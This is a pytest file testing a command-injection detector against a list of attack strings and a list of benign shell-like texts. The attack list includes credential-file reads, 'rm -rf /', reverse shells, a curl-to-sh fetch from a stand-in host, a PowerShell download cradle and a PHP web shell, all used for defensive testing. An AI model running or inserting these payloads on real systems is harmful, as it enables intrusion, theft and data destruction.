import pytest

from streams.screening.attacks.command import COMMAND

ATTACKS = [
    "file.txt; cat /etc/passwd",
    "8.8.8.8;id",
    "a|whoami",
    ";id;",
    "| id",
    "`id`",
    "$(sleep 5)",
    '"& ping -i 30 127.0.0.1 &"',
    "127.0.0.1 && cat /etc/passwd",
    "cat${IFS}/etc/passwd",
    "{cat,/etc/passwd}",
    "c'a't /etc/passwd",
    'w"h"oami',
    "$(cat /etc/shadow)",
    "x && rm -rf / ",
    "bash -i >& /dev/tcp/10.0.0.1/4444",
    "nc -e /bin/sh",
    "name; curl http://evil.example/x.sh | sh",
    "python3 -c 'import socket,os;s=socket.socket()'",
    "powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://x/y')\"",
    "() { :;}; /bin/cat /etc/passwd",
    "<?php system($_GET['c']); ?>",
    "__import__('os').system('id')",
    '<!--#exec cmd="ls" -->',
    "=cmd|'/C calc'!A0",
]
ORDINARY = [
    "ls -l | grep txt && echo done",
    "what does rm -rf / do, and why is it dangerous?",
    "How do I kill a process? kill -9 1234",
    "make && sudo make install",
    "echo $(whoami) on $(uname -r)",
    "cat /etc/os-release; tail -f /var/log/syslog",
    "VERSION=$(cat version.txt)",
    "curl -fsSL https://get.docker.com | sh",
    "use `id` to see who you are",
    "import os; os.system('clear')",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks(text: str) -> None:
    assert {each.entity for each in COMMAND.find(text)} == {"COMMAND_INJECTION"}


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_texts(text: str) -> None:
    assert COMMAND.find(text) == []
